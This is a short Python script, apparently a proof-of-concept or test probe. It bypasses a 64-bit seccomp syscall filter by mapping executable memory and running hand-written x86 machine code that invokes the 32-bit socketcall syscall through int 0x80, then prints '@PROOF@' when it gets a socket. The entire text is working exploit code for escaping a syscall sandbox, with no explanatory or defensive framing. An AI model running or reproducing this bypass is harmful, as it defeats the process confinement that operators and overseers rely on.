"""socketcall of the 32-bit table, past a filter for the 64-bit one."""
import ctypes
import mmap
arguments = (ctypes.c_uint32 * 3)(2, 1, 0)
low = mmap.mmap(-1, 4096, prot=7, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
base = ctypes.addressof(ctypes.c_char.from_buffer(low))
low[64:76] = bytes(arguments)
code = b"\x53\xb8\x66\x00\x00\x00\xbb\x01\x00\x00\x00\xb9" + ((base + 64) & 0xFFFFFFFF).to_bytes(4, "little") + b"\xcd\x80\x5b\xc3"
low[: len(code)] = code
if ctypes.CFUNCTYPE(ctypes.c_int)(base)() >= 0:
    print("@PROOF@")
